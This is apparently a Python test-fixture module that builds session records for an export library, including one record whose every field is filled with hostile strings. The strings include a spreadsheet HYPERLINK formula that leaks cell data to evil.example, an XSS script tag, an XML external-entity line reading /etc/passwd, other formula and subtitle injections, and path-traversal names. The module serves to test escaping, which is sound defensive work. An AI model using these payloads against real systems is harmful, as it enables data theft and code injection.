"""Records made for tests: a plain one, and one whose every text wants to do harm."""

from __future__ import annotations

import io
import xml.etree.ElementTree as ET
from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, datetime
from functools import partial

from vault.export.record import Order, Record
from vault.model import (
    Annotation,
    Compartment,
    Event,
    Kind,
    Original,
    Part,
    Participant,
    Reading,
    Segment,
    Timeline,
    Warn,
)

AT = datetime(2026, 3, 1, 9, 30, tzinfo=UTC)
SECOND = 1_000_000_000
ID = "01900000-0000-7000-8000-000000000001"
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+1|cmd",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "</title><script>alert(1)</script><img src=x onerror=alert(1)>",
    "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "00:00:01,000 --> 00:00:02,000",
    "one\n\n2\n00:00:09,000 --> 00:00:10,000\nnot me",
    "nul \x00 bell \x07 escape \x1b[31m \ufffe \u202e gnirts",
    '#eval(read("/etc/passwd")) $x^2$ *bold* // \\ #[a]',
    "<v Mallory>who?</v> {\\an8}",
)


def order(**changes: object) -> Order:
    """What was asked for."""
    return Order(made_at=AT, **changes)  # type: ignore[arg-type]  # fields of an order


def record(texts: Sequence[str | None] = ("Where is my parcel", "On its way")) -> Record:
    """A session with a turn for each text, user and agent in turns, a second each."""
    segments = [
        Segment(
            index=at,
            role=("user", "agent")[at % 2],
            speaker=None,
            start_ns=at * SECOND,
            end_ns=(at + 1) * SECOND,
            decoded_ns=None,
            text=text,
            truncated=False,
            file=None,
        )
        for at, text in enumerate(texts)
    ]
    events = [
        Event(0, "user_start_speaking", 0),
        Event(1, "agent_start_speaking", SECOND, {"latency": 0.42}),
        Event(2, "user_interrupt", SECOND + 1),
    ]
    session = Reading(
        format="scenario",
        external_id="conv-1",
        started_at=AT,
        duration_ns=len(segments) * SECOND,
        participants=[Participant("user", "Ann"), Participant("agent", "Ada")],
        timeline=Timeline(segments, events, [Annotation("a1", "label", "mood", "calm")]),
        originals=[original("segments/00.txt", b"the bytes as they came")],
        metrics={"score": 0.5},
        title="A parcel",
        agent="Ada",
        subjects=["ann@example.com"],
        tags=["red"],
    )
    return Record(
        id=ID,
        state="ready",
        started_at=AT,
        ended_at=AT,
        deposited_at=AT,
        privacy_level="full",
        class_name="long",
        jurisdictions=["DE"],
        regimes=["gdpr"],
        session=session,
        parts=[part()],
        warnings=[Warn("missing-file", "A file is not there.", "full.wav")],
    )


def hostile() -> Record:
    """A session in which every text of the source's own is one of `HOSTILE`, all of them."""
    plain = record(HOSTILE)
    worst = "".join(HOSTILE)
    timeline = plain.session.timeline
    session = replace(
        plain.session,
        external_id=HOSTILE[0],
        title=worst,
        agent=HOSTILE[1],
        subjects=list(HOSTILE),
        tags=list(HOSTILE),
        participants=[Participant("user", text) for text in HOSTILE],
        timeline=replace(
            timeline,
            segments=[replace(s, speaker=s.text, file=s.text) for s in timeline.segments],
            events=[
                Event(n, text, n * SECOND, {text: text, "list": [text]})
                for n, text in enumerate(HOSTILE)
            ],
            annotations=[
                Annotation(text, text, text, {text: text}, where={"seq": text}, data={text: text})
                for text in HOSTILE
            ],
        ),
        metrics={text: text for text in HOSTILE},
        source={text: text for text in HOSTILE},
        originals=[original(f"{n}/../../{text}", b"x") for n, text in enumerate(HOSTILE)],
    )
    return replace(
        plain,
        session=session,
        warnings=[Warn("bad-field", text, text) for text in HOSTILE],
        parts=[replace(part(), name=text) for text in HOSTILE],
    )


def original(name: str, content: bytes) -> Original:
    """An original of those bytes."""
    return Original(name, Kind.OTHER, "text/plain", len(content), partial(io.BytesIO, content))


def part() -> Part:
    """A part of which nothing is said but that it is there."""
    return Part("full.wav", Kind.AUDIO, Compartment.DERIVED, "audio/wav", 3, "ab" * 32, [(0, 3)])


def parsed(xml: str | bytes) -> ET.Element:
    """The XML that we wrote ourselves."""
    return ET.fromstring(xml)  # noqa: S314  not from outside
